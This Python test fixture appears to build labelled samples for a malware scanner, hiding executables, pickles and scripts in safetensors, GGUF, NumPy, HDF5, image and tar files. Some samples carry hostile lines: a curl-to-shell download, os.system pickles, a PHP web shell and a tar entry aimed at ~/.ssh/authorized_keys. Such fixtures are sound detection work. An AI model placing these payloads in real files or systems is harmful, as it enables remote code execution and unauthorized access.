"""Programs and pickles laid where data belong: in tensors, in datasets, behind pictures and behind an archive's end."""

import base64
import gzip
import struct
import zlib

from seatrial.testing.builders import npy_array, torch_zip
from tests.corpus.archive_writer import tar_file
from tests.corpus.assembler import SHELL, pickled, value
from tests.corpus.gguf_samples import ARCH, NAME, W
from tests.corpus.labelled import benign, hostile
from tests.corpus.ordinary_repository_samples import png
from tests.corpus.repository_samples import ELF, MACHO, PE
from tests.corpus.safetensors_samples import entry, file
from tests.corpus.sample import Sample

FAMILY = "hidden payload"
CALL = b"cposix\nsystem\n(S'echo inert'\ntR."
STACKED = b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x0aecho inert\x94\x85\x94R."
SCRIPT = b"#!/bin/sh\ncurl -s http://203.0.113.9/stage.sh | sh\n"
BIG_MACHO = struct.pack(">IIIIIII", 0xFEEDFACE, 18, 0, 2, 6, 0, 0) + bytes(64)
UNIVERSAL = struct.pack(">IIIIIII", 0xCAFEBABE, 2, 0x01000007, 3, 0x4000, 0x8000, 14) + bytes(64)
WASM = b"\0asm\1\0\0\0\1\4\1\x60\0\0" + bytes(40)
NUMBERS = b"".join(struct.pack("<f", 0.001 * (n * 37 % 101 - 50)) for n in range(512))
JPEG = (
    b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0"
    + b"\xff\xdb\0\x43\0"
    + bytes(range(1, 65))
    + b"\xff\xda\0\x08\1\1\0\0\x3f\0\xf7\xfa\x28\xa2\x8a\0\xff\xd9"
)
GIF = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\4\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
WEBP = b"RIFF" + struct.pack("<I", 60) + b"WEBPVP8L" + struct.pack("<I", 48) + b"\x2f" + bytes(47)
WAVE = b"RIFF" + struct.pack("<I", 100) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 16000, 2, 16)
WAVE += b"data" + struct.pack("<I", 64) + bytes(64)


def _padded(data: bytes, width: int = 4) -> bytes:
    return data + bytes(-len(data) % width)


def _tensors(inner: bytes, *, ahead: bytes = b"", behind: bytes = b"", dtype: str = "F32") -> bytes:
    """A safetensors file whose one tensor holds these bytes."""
    data = _padded(ahead + inner + behind, 4)
    shape = [len(data) // 4] if dtype in ("F32", "I32") else [len(data)]
    return file({"weight": entry(shape, 0, len(data), dtype)}, data)


def _gguf(inner: bytes) -> bytes:
    data = _padded(NUMBERS + inner, 32)
    return W.file([ARCH, NAME], [W.tensor("blk.0.weight", [len(data) // 4])], data)


def _array(inner: bytes) -> bytes:
    data = NUMBERS + _padded(inner)
    return npy_array(f"{{'descr': '<f4', 'fortran_order': False, 'shape': ({len(data) // 4},), }}", data)


def _file(packed: str) -> bytes:
    return zlib.decompress(base64.b85decode(packed))


# Made with h5py 3: one dataset `layers/dense/vars/0` of bytes that are ELF, ELF in gzip chunks, or a pickle.
H5_PROGRAM = _file(
    "c-rgqaB<`1lHy_j0S*oZ76t(ZWbhvf3WQMkF!=;1%?PDCp!5nRm^dR?P68?}2sIyFT}Y6tD@gT!Gyt>b0V{;&U>F4>5qP*d27u@YC?A$ePcWgX"
    "%So(EEh<K&M-K|^#g%?Nm?8WOR^rm{3(nE>JDPqm({BeWs=Acayy8>_>ZRXcKYtfc3WlXS1!mOp8a*A40@BKX0Cot!fRng#-~;byIWSrdV3q?D"
    "I8oJ=C4y=(+LZ$u?5O1cdO98jq?H2^+z@^RFLC97hrnn#Fj@{^mIE_*QPmls^{=R14j6Ewnvb52M**&KfE5yEj4(c=L||lu2t0uGTcI>FFoqeS"
    "@yv*n^I3s3h|k2t#0U|En8VCCK@imh7??09!vj5CS@4gh5pqDitB)HKBO{#8%wWgBIE?%U0IFervj"
)
H5_PACKED = _file(
    "c-rgqaB<`1lHy_j0S*oZ76t(ZWbhvfxTR3}F!=;1%?PDCp!5nRm^dR?P68?}2sIyFT}Y6tD@gT!Gyt>b0V{;&U>F4>5qP*d27u@YC?A$ePcWgX"
    "%So(EEh<K&M-K|^#g%?Nm?8WOR^rm{3(nE>JDPqm({BeWs=Acayy8>_>ZRXcKYtfc3WlXS1!mOp8a*A40@BKX0Cot!fRng#-~;byIWSrdV3q?D"
    "I8oJ=C4y=(+LZ$u?5O1cdO98jq?H2^+z@^RFLC97hrnn#Fj@{^mIE_*QPmls^{=R14j6Ewnvb52M**&KfDIC6j4(c=L||lu2rPj1OJFoJFoqeS"
    "@yv*n^I3s3h|k2#1QzCIPyq88;pTFHOPrL{w4B6}RAB!cR&GG-V`gHSAPDUuBSj;qMMu~0Ku=c|{G(}v8~~~}7=ft;z21<-q5c3=0w(_eP5vgD"
    "`~gN(`A=vDFJM9~4@SW#7zLwX6pVsVF!(@4-0JeLg~>@NDGiKiY}RZn`7f9ml6e{Dk}d%N-(Igq"
)
H5_PICKLE = _file(
    "c-rgqaB<`1lHy_j0S*oZ76t(ZWbhvf_6VZ#Ve$!3nh{EOK<O1sFmXn(oCH){5NbZUx{x4OSCH!eXaHu<16Byl!7vI&BJgl^3;@v)P(Cb`o?t>%"
    "my=kTT2zckj~*1-i!1$lFhlqmti+|?7o4N%cQpNCrr!=$RCOt-dBv#=)Jwm?e*P|?6bwsu3e2eGHF`Q81*DY&0qhWd0Vi?gzz5#Za$vL^z$^zQ"
    "aH6U!O9a(ov?~WR*ip*?^mIH5NGk^-xFP%sUgF9D4}sBgV6+^-EC*)rqN+1M>t9j395CQUH6J}4j{;of04pTS7-4)!iNMGR5zv9EgVD^u7-odV"
    "Gb2*YX9dzAJ`)oYBSaKp4m0BfK~xi9V8Wmb5A<|p!9SWt$N>#3Jxuw<Q+n8nD~n4~bEiz6(j%0boRP0koSIltl$n^Lo0*qdR5GP?N{}7^E02us"
)


def evil(name: str, path: str, content: bytes, note: str, source: str = "") -> Sample:
    """One file with something in it."""
    return hostile("hidden-" + name, FAMILY, {path: content}, note, source or "CWE-506")


TENSORS = (
    evil("elf-in-safetensors", "model.safetensors", _tensors(ELF), "A tensor that is a program from its first byte."),
    evil(
        "elf-deep-in-safetensors",
        "model.safetensors",
        _tensors(ELF, ahead=NUMBERS * 8, behind=NUMBERS),
        "Between two runs of ordinary numbers.",
    ),
    evil("elf-as-bytes", "model.safetensors", _tensors(ELF, ahead=bytes(7), dtype="U8"), "Not aligned to anything."),
    evil("pe-in-safetensors", "model.safetensors", _tensors(PE, ahead=NUMBERS), "A program of Windows."),
    evil("macho-in-safetensors", "model.safetensors", _tensors(MACHO, ahead=NUMBERS), "One of macOS, little-endian."),
    evil("macho-big-in-safetensors", "model.safetensors", _tensors(BIG_MACHO, ahead=NUMBERS), "And big-endian."),
    evil("universal-in-safetensors", "model.safetensors", _tensors(UNIVERSAL, ahead=NUMBERS), "A universal binary."),
    evil("wasm-in-safetensors", "model.safetensors", _tensors(WASM, ahead=NUMBERS), "WebAssembly."),
    evil("script-in-safetensors", "model.safetensors", _tensors(SCRIPT, ahead=NUMBERS), "A script for a shell."),
    evil("pickle-in-safetensors", "model.safetensors", _tensors(CALL, ahead=NUMBERS), "A call, protocol 0."),
    evil("pickle4-in-safetensors", "model.safetensors", _tensors(STACKED, ahead=NUMBERS), "A call, protocol 4."),
    evil(
        "pickle-second-tensor",
        "model.safetensors",
        file(
            {"a": entry([300_000], 0, 1_200_000), "b": entry([9], 1_200_000, 1_200_036)},
            bytes(1_200_000) + CALL.ljust(36, b"\0"),
        ),
        "The second tensor, behind a large one.",
    ),
    evil(
        "elf-second-tensor",
        "model.safetensors",
        file(
            {"a": entry([900_000], 0, 3_600_000), "b": entry([300_000], 3_600_000, 4_800_000)},
            bytes(3_600_000) + ELF.ljust(1_200_000, b"\1"),
        ),
        "The second of two large tensors.",
    ),
    evil("elf-in-gguf", "model.gguf", _gguf(ELF), "In a GGUF tensor."),
    evil("pickle-in-gguf", "model.gguf", _gguf(STACKED), "A call in a GGUF tensor."),
    evil("elf-in-npy", "weights.npy", _array(ELF), "In a NumPy array of floats."),
    evil("pickle-in-npy", "weights.npy", _array(CALL), "A call in an array that is no array of objects."),
    evil(
        "elf-in-torch-storage",
        "pytorch_model.bin",
        torch_zip(pickled(value({"a": 1})), [NUMBERS + ELF + NUMBERS]),
        "In a tensor of a PyTorch archive, behind ordinary numbers.",
    ),
    evil(
        "pickle-in-torch-storage",
        "pytorch_model.bin",
        torch_zip(pickled(value({"a": 1})), [NUMBERS + CALL]),
        "A call in a tensor of a PyTorch archive.",
    ),
    evil("elf-in-hdf5", "model.weights.h5", H5_PROGRAM, "In a dataset."),
    evil("elf-in-hdf5-chunks", "model.weights.h5", H5_PACKED, "In a dataset that is compressed."),
    evil("pickle-in-hdf5", "model.weights.h5", H5_PICKLE, "A call in a dataset of bytes."),
)
BEHIND = (
    evil("jpeg-pickle", "logo.jpg", JPEG + CALL, "A call behind the end of a picture."),
    evil("jpeg-pickle4", "logo.jpg", JPEG + SHELL, "The same in protocol 4."),
    evil("jpeg-comment-pickle", "logo.jpg", JPEG[:2] + b"\xff\xfe\0\x40" + CALL.ljust(62) + JPEG[2:], "In a comment."),
    evil("jpeg-program", "logo.jpg", JPEG + ELF, "A program behind the end of a picture."),
    evil("gif-pickle", "logo.gif", GIF + STACKED, "Behind a GIF."),
    evil("png-pickle", "logo.png", png() + STACKED, "Behind a PNG."),
    evil("png-program", "logo.png", png() + PE, "A program behind a PNG."),
    evil("webp-pickle", "logo.webp", WEBP + CALL, "Behind a WebP."),
    evil("wave-pickle", "sample.wav", WAVE + CALL, "Behind a sound."),
    evil("pdf-pickle", "paper.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n" + STACKED, "Behind a PDF."),
    evil("unknown-program", "weights.bin", bytes(range(128, 256)) * 16 + ELF, "A program inside bytes of no format."),
    evil("shell-behind-jpeg", "logo.jpg", JPEG + b"\n" + SCRIPT, "A script behind a picture."),
    evil(
        "php-in-jpeg",
        "logo.jpg",
        JPEG[:2] + b"\xff\xfe\0\x40" + b"<?php system($_GET['c']); ?>".ljust(62) + JPEG[2:],
        "PHP.",
    ),
)
FIRST = tar_file([("weights.txt", b"1 2 3\n")])
SECOND = tar_file([("../../.ssh/authorized_keys", b"ssh-ed25519 AAAA not a key\n")])
TARS = (
    evil("tar-behind-tar", "model.tar", FIRST + SECOND, "Read on by whoever ignores empty blocks."),
    evil(
        "tar-behind-tar-pickle",
        "model.tar",
        FIRST + tar_file([("data.pkl", CALL)]),
        "The member behind the end is a call.",
    ),
    evil(
        "tar-behind-much-padding",
        "model.tar",
        FIRST + bytes(10240 * 20) + tar_file([("data.pkl", CALL)]),
        "Behind 200 KiB of empty blocks.",
    ),
    evil(
        "tar-behind-tar-gz",
        "model.tar.gz",
        gzip.compress(FIRST, mtime=0) + gzip.compress(tar_file([("data.pkl", CALL)]), mtime=0),
        "Two compressed archives in a row.",
    ),
    evil("program-behind-tar", "model.tar", FIRST + ELF, "A program behind the end."),
    evil("pickle-behind-tar", "model.tar", FIRST + STACKED, "A pickle behind the end."),
)
BENIGN = (
    benign("hidden-benign-floats", FAMILY, {"m.safetensors": _tensors(NUMBERS * 40)}, "Nothing but numbers."),
    benign(
        "hidden-benign-marks",
        FAMILY,
        {"m.safetensors": _tensors(b"\x7fELF" + NUMBERS + b"MZ" + NUMBERS + b"\xcf\xfa\xed\xfe" + NUMBERS + b"#!")},
        "Marks by chance, with nothing behind them that a program has.",
    ),
    benign("hidden-benign-padded-tar", FAMILY, {"m.tar": FIRST + bytes(10240 * 3)}, "Empty blocks behind the end."),
    benign("hidden-benign-jpeg", FAMILY, {"p.jpg": JPEG + bytes(40)}, "A picture with padding."),
    benign(
        "hidden-benign-object-as-bytes",
        FAMILY,
        {"optim.safetensors": _tensors(pickled(value({"step": 3, "rank": 0})), dtype="U8")},
        "A pickled dictionary as distributed training keeps it in a tensor of bytes.",
    ),
)
SAMPLES = (*TENSORS, *BEHIND, *TARS, *BENIGN)
